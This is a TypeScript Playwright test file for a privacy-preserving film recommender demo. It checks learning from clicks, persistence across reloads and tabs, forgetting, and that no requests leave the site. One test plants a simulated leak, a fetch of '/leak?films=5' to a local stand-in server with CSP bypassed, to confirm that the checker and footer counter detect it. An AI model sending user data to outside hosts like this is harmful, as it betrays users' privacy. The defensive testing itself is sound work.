import type { Route } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { offendersOf, recordRequests, startStranger, Visitor, waitForRow } from './browse'
import type { OpenedDemo } from './open-demo'

interface Loop {
  readonly name: string
  readonly at: OpenedDemo
  /** Five films of it, found by search, are clicked. */
  readonly genre: string
  readonly titles: readonly string[]
  /** At least so much more of the row is of the genre afterwards: 0 .. 1. */
  readonly gain: number
}

/** What a visitor sees of the whole product, on some data. */
export function describeLearningLoop({ name, at, genre, titles, gain }: Loop): void {
  describe(name, () => {
    test(`five clicks on ${genre}: each a new list before the next frame; the row follows and says why; a reload keeps it; forgetting undoes it in every tab; nothing is sent (scenario 28, 66, 70; complaints 13, 16)`, async () => {
      const context = await at.browser.newContext({ viewport: { width: 1280, height: 900 } })
      const requests = recordRequests(context)
      const visitor = await Visitor.arrive(context, at.demo.url)
      await visitor.answer('Remember on this device')
      const atStart = await visitor.row()
      const shareAtStart = await visitor.shareOf(genre)

      const happened = await visitor.searchAndOpen(titles)
      expect(happened).toHaveLength(5)
      for (const events of happened) expect(events[0]).toBe('snapshot')
      const learned = await visitor.row()
      expect((await visitor.shareOf(genre)) - shareAtStart).toBeGreaterThanOrEqual(gain)
      const reasons = await visitor.reasons()
      const named = reasons.filter(reason => titles.some(title => reason.includes(title)))
      expect(named.length).toBeGreaterThanOrEqual(6)

      // What is popular may stand there first, where the disk takes more than a second.
      const own = '#for-you[data-source=model]'
      await visitor.page.reload()
      await visitor.page.locator(own).waitFor()
      await waitForRow(visitor.page)
      expectSameRow(await visitor.row(), learned)

      // Rows that choose before it wait for code of their own, which is slower than all else here.
      await visitor.page.route('**/assets/*.js', late('Because you viewed'))
      await visitor.page.reload()
      await visitor.page.locator(own).waitFor()
      await waitForRow(visitor.page)
      expectSameRow(await visitor.row(), learned)
      await visitor.page.unrouteAll()

      const other = await Visitor.arrive(context, at.demo.url)
      await other.page.locator(own).waitFor()
      await waitForRow(other.page)
      expectSameRow(await other.row(), learned)
      await visitor.forgetEverything()
      await other.waitForThisRow(atStart)
      await visitor.goHome()
      expect(await visitor.row()).toEqual(atStart)
      for (const { page } of [visitor, other]) {
        const { events } = await page.evaluate(() => recommender.exportData())
        expect(events.filter(({ type }) => type !== 'impression')).toEqual([])
      }

      expect(requests.length).toBeGreaterThan(0)
      expect(offendersOf(requests, at.demo.url)).toEqual([])
      expect(at.demo.requests.filter(({ method, status }) => method !== 'GET' || status !== 200)).toEqual([])
      await context.close()
    })

    test('a planted request is caught by the checker, and raises the number on the page (scenario 70)', async () => {
      const stranger = await startStranger()
      // The demo's own policy would refuse it; a site without one would not.
      const context = await at.browser.newContext({ bypassCSP: true })
      const requests = recordRequests(context)
      const { page } = await Visitor.arrive(context, at.demo.url)
      const shown = page.locator('footer [data-elsewhere]')
      expect(await shown.textContent()).toMatch(/^\d+ files from this site, 0 elsewhere$/)
      expect(offendersOf(requests, at.demo.url)).toEqual([])

      await page.evaluate(url => fetch(`${url}/leak?films=5`), stranger.url)
      await page.locator('footer [data-elsewhere="1"]').waitFor()
      expect(await shown.textContent()).toMatch(/^\d+ files from this site, 1 elsewhere$/)
      expect(offendersOf(requests, at.demo.url)).toEqual([{ method: 'GET', url: `${stranger.url}/leak?films=5` }])

      await page.evaluate(() => fetch('/films.json', { method: 'POST' }))
      expect(offendersOf(requests, at.demo.url)).toHaveLength(2)
      expect(stranger.heard).toEqual(['GET /leak?films=5'])
      await context.close()
      stranger.server.close()
    })
  })
}

/** Answers half a second later with what holds these words. */
function late(words: string): (route: Route) => Promise<void> {
  return async route => {
    const response = await route.fetch()
    const body = await response.text()
    if (body.includes(words)) await new Promise(resolve => setTimeout(resolve, 500))
    await route.fulfill({ response, body })
  }
}

/** Films whose scores are equal to eight digits may change places, since what was done a moment ago weighs a little less. */
function expectSameRow(row: readonly string[], before: readonly string[]): void {
  expect(row.toSorted()).toEqual(before.toSorted())
  for (const [place, url] of row.entries()) expect(Math.abs(before.indexOf(url) - place)).toBeLessThanOrEqual(1)
}
